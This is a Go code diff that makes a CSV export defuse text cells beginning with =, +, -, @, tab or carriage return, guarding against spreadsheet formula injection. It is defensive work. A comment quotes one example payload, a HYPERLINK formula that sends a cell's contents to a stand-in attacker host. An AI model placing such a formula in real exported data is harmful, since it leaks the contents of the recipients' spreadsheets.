@@ -195,13 +195,14 @@ func CSV(data []byte, path []string) (string, error) {
 	return b.String(), w.Error()
 }
 
-// cell is a value as a CSV cell: numbers as sent, a list as JSON.
+// cell is a value as a CSV cell: numbers as sent, a list as JSON, text
+// defused (safeText).
 func cell(v any) string {
 	switch v := v.(type) {
 	case nil:
 		return ""
 	case string:
-		return v
+		return safeText(v)
 	case json.Number:
 		return v.String()
 	case bool:
@@ -249,4 +250,18 @@ func allEmpty(rows []map[string]string, column string) bool {
 		}
 	}
 	return true
+}
+
+// safeText keeps a text cell from being run as a formula by the spreadsheet
+// that opens the file (CSV or formula injection, OWASP): text from the site
+// (a report title anyone in a guild can choose, such as
+// =HYPERLINK("https://evil.example/?"&A1)) that begins with =, +, -, @, a tab
+// or a carriage return gets a leading apostrophe, which spreadsheets show as
+// text and do not display. Numbers are json.Number, never text, so a
+// negative number stays a number.
+func safeText(s string) string {
+	if s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0])) {
+		return "'" + s
+	}
+	return s
 }
